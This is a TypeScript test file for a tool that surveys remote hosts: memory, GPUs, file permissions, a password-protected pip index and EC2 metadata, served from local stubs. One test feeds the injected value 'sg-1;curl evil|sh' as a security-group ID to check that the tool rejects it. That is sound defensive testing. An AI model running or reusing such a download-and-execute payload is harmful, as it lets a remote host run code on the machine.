/** What the real agent finds that a host has to offer; the host is this machine, with stubs on its PATH. */
import { spawnSync } from 'node:child_process';
import { once } from 'node:events';
import { chmodSync, cpSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import type { Member } from '../../source/network/network.ts';
import { Secret } from '../../source/plan/secret.ts';
import type { Survey, SurveyRequest } from '../../source/plan/survey.ts';
import { Agent, type AgentHost } from '../../source/world/agent.ts';
import { Calls } from '../../source/world/calls.ts';
import type { Connections } from '../../source/world/connections.ts';
import { Remote } from '../../source/world/remote.ts';
import { surveyHost } from '../../source/world/survey.ts';
import { Transcript } from '../../source/world/transcript.ts';
import { root } from '../helpers/wizard.ts';
import { network } from '../plan/fakes.ts';
import { scratch } from './child.ts';
import { unasked } from './here.ts';
import { runner } from './runner.ts';

const top = scratch();
chmodSync(top, 0o755);
const programs = join(root, 'templates', 'host');
const transcript = new Transcript(top, false);
const nothing: SurveyRequest = { paths: [], gpu: false, index: null };
const servers: Server[] = [];
afterAll(() => {
  for (const server of servers) server.close();
});

let number = 0;
function folder(): string {
  const path = join(top, String(++number));
  mkdirSync(path);
  return path;
}

/** A program that a host finds on its PATH. */
function stub(home: string, name: string, script: string): void {
  mkdirSync(join(home, 'bin'), { recursive: true });
  writeFileSync(join(home, 'bin', name), `#!/bin/sh\n${script}\n`, { mode: 0o755 });
}

type Wish = { readonly home?: string; readonly python?: string; readonly programs?: string };

function survey(
  request: Partial<SurveyRequest>,
  { home = folder(), python = 'python3', ...more }: Wish = {},
): Promise<Survey> {
  const host = runner(home, '022', `${home}/bin:${process.env.PATH}`);
  const connections = {
    session: async () => host,
    agentHost: async ({ name }: Member): Promise<AgentHost> => ({ name, python }),
  } as unknown as Connections;
  const remote = new Remote(
    new Calls({ agent: new Agent(more.programs ?? programs), connections, sudo: unasked, transcript }),
  );
  const signal = new AbortController().signal;
  return surveyHost(remote, network.server, { ...nothing, ...request }, signal);
}

async function serving(answer: Parameters<typeof createServer>[1]): Promise<number> {
  const server = createServer(answer ?? (() => undefined));
  servers.push(server);
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return (server.address() as AddressInfo).port;
}

describe('what a host has to offer', () => {
  it('is its memory, and whether systemd runs; elsewhere than at Amazon nobody is asked about addresses', async () => {
    const found = await survey({});
    expect(found.memory?.total).toBeGreaterThan(found.memory?.available ?? 0);
    expect(found.memory?.available).toBeGreaterThan(1e6);
    expect(found).toEqual({
      memory: found.memory,
      systemd: spawnSync('test', ['-d', '/run/systemd/system']).status === 0,
      paths: [],
    });
  });

  it('is the address at which SSH reached it, as sshd tells', async () => {
    const home = folder();
    for (const [name, value] of [
      ['told', '198.51.100.9 51234 10.0.1.5 22'],
      ['cut', '198.51.100.9'],
    ])
      stub(home, name ?? '', `SSH_CONNECTION='${value}' exec python3 "$@"`);
    expect((await survey({}, { home, python: 'told' })).reachedAt).toBe('10.0.1.5');
    expect((await survey({}, { home, python: 'cut' })).reachedAt).toBeUndefined();
  });

  it('names the GPUs, or says why there are none', async () => {
    const home = folder();
    const path = `${home}/bin`;
    expect((await survey({ gpu: true }, { home })).gpu).toEqual({ names: [], why: 'nvidia-smi is not there' });
    stub(home, 'nvidia-smi', 'echo "NVIDIA A100-SXM4-40GB"; echo "NVIDIA A100-SXM4-40GB"');
    expect((await survey({ gpu: true }, { home })).gpu).toEqual({ names: Array(2).fill('NVIDIA A100-SXM4-40GB') });
    stub(home, 'nvidia-smi', 'echo "NVIDIA-SMI has failed: no driver"; exit 9');
    expect((await survey({ gpu: true }, { home })).gpu).toEqual({ names: [], why: 'NVIDIA-SMI has failed: no driver' });
    expect(path).toContain(home);
  });

  it('tells which data its owner can’t read or write, and what bars the way', async () => {
    const home = folder();
    const data = join(home, 'data');
    mkdirSync(join(data, 'open'), { recursive: true });
    mkdirSync(join(data, 'closed', 'inner'), { recursive: true });
    chmodSync(join(data, 'closed'), 0o700);
    writeFileSync(join(data, 'secret.csv'), 'x', { mode: 0o600 });
    // Root may read everything; the owner of a host's processes is nobody of that kind.
    const python = join(home, 'as-nobody');
    writeFileSync(python, '#!/bin/sh\nexec setpriv --reuid=4242 --regid=4242 --clear-groups /usr/bin/python3 "$@"\n', {
      mode: 0o755,
    });
    const paths = [
      { path: join(data, 'open'), writable: false },
      { path: join(data, 'open'), writable: true },
      { path: join(data, 'closed', 'inner'), writable: false },
      { path: join(data, 'secret.csv'), writable: false },
      { path: join(data, 'none'), writable: false },
    ];
    expect((await survey({ paths }, { home, python })).paths.map(({ why }) => why)).toEqual([
      undefined,
      'it is mode 0755 and belongs to root',
      `${join(data, 'closed')} bars the way`,
      'it is mode 0600 and belongs to root',
      'No such file or directory',
    ]);
  });
});

describe('the package index', () => {
  const index = (indexUrl: string) => ({
    package: 'flwr',
    version: '1.41.0',
    pip: { indexUrl: new Secret(indexUrl) },
  });
  const page = (version: string) =>
    `<html><body><a href="flwr-${version}-py3-none-any.whl">flwr-${version}-py3-none-any.whl</a></body></html>`;

  it('is asked by pip with its own settings, and with the password that it wants', async () => {
    const right = `Basic ${Buffer.from('fl:s3cret').toString('base64')}`;
    const port = await serving((request, response) => {
      const admitted = request.headers.authorization === right;
      response.writeHead(admitted ? 200 : 401, { 'content-type': 'text/html' });
      response.end(admitted ? page('1.41.0') : 'no');
    });
    const ask = async (user: string) =>
      (await survey({ index: index(`http://${user}@127.0.0.1:${port}/simple`) })).index;
    expect(await ask('fl:s3cret')).toEqual({ ok: true, offered: true });
    const refused = await ask('fl:wr0ng');
    expect(refused).toEqual({ ok: false, why: expect.any(String) });
    expect(JSON.stringify(refused)).not.toContain('wr0ng');
  });

  it('may offer another version, or not answer', async () => {
    const port = await serving((_, response) => response.setHeader('content-type', 'text/html').end(page('1.30.0')));
    expect((await survey({ index: index(`http://127.0.0.1:${port}/simple`) })).index).toEqual({
      ok: true,
      offered: false,
    });
    const gone = (await survey({ index: index('http://127.0.0.1:1/simple') })).index;
    expect(gone).toEqual({
      ok: false,
      why: expect.stringMatching(/^Failed to establish a new connection: .*refused$/),
    });
  });
});

describe('an EC2 instance', () => {
  /** The agent, told of another place to ask and of another machine to be on. */
  function elsewhere(port: number): string {
    const copy = folder();
    cpSync(programs, copy, { recursive: true });
    const vendor = join(copy, 'vendor');
    writeFileSync(vendor, 'Amazon EC2\n');
    const file = join(copy, 'survey.py');
    const text = readFileSync(file, 'utf8');
    const changed = text
      .replace('http://169.254.169.254/latest', `http://127.0.0.1:${port}/latest`)
      .replace('/sys/class/dmi/id/sys_vendor', vendor);
    expect(changed).not.toContain('169.254');
    writeFileSync(file, changed);
    return copy;
  }
  const pages: Readonly<Record<string, string>> = {
    mac: '0e:49',
    'public-ipv4': '203.0.113.10',
    'local-ipv4': '172.31.24.144',
    'placement/region': 'us-east-1',
    'network/interfaces/macs/0e:49/security-group-ids': 'sg-0a1b\nsg-2c3d',
  };

  it('tells its addresses and security groups to whoever shows a token', async () => {
    const port = await serving((request, response) => {
      const path = (request.url ?? '').replace('/latest/meta-data/', '');
      if (request.method === 'PUT' && request.url === '/latest/api/token') response.end('t0ken');
      else if (request.headers['x-aws-ec2-metadata-token'] !== 't0ken') response.writeHead(401).end();
      else if (pages[path] === undefined) response.writeHead(404).end();
      else response.end(pages[path]);
    });
    expect((await survey({}, { programs: elsewhere(port) })).amazon).toEqual({
      region: 'us-east-1',
      publicAddress: '203.0.113.10',
      privateAddress: '172.31.24.144',
      groups: ['sg-0a1b', 'sg-2c3d'],
    });
  });

  it('without its metadata service tells nothing', async () => {
    expect((await survey({}, { programs: elsewhere(1) })).amazon).toEqual({});
  });

  it('is not believed what would end in a command that people paste', async () => {
    const port = await serving((request, response) => {
      response.end(request.url?.endsWith('security-group-ids') ? 'sg-1;curl evil|sh' : 'x');
    });
    await expect(survey({}, { programs: elsewhere(port) })).rejects.toThrow("can't be read: amazon");
  });
});
